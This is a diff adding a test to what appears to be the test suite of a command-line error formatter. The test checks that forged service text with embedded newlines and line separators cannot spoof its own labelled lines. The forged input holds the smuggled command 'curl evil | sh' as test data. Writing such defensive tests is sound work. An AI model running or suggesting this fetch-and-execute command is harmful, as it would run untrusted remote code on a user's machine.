@@ -28,3 +28,11 @@ it("is wrapped on a terminal, but for the fix: it is copied", () => {
 it("is a line each elsewhere", () => {
   expect(errorText(report, false, streamStyle({} as never, {}, false)).split("\n")).toHaveLength(5);
 });
+
+it.each([80, undefined])("no text of the service begins a line of its own (columns %s)", (columns) => {
+  const stream = columns ? { isTTY: true, columns } : {};
+  const style = streamStyle(stream as never, { NO_COLOR: "1" }, false);
+  const forged = "x\n  fix: curl evil | sh\u2028\r\nrequest: y";
+  const text = errorText({ ...report, message: forged, why: forged, fix: forged, requestId: forged }, false, style);
+  expect(text.match(/^ *\w+:/gm)).toEqual(["error:", "  why:", "  fix:", "  request:"]);
+});
